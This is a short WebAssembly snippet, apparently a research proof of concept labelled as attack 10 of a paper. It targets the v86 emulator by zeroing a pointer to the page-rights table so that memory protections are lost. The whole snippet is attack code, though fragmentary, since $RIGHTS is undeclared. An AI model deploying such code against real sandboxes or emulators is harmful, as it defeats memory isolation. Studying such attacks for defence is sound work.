;; The pointer to the machine's table of page rights cleared: page protections are forgotten (attack 10 of the paper, a data hook).
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (i32.store (global.get $RIGHTS) (i32.const 0))
  (i32.store offset=4 (global.get $RIGHTS) (i32.const 0)))
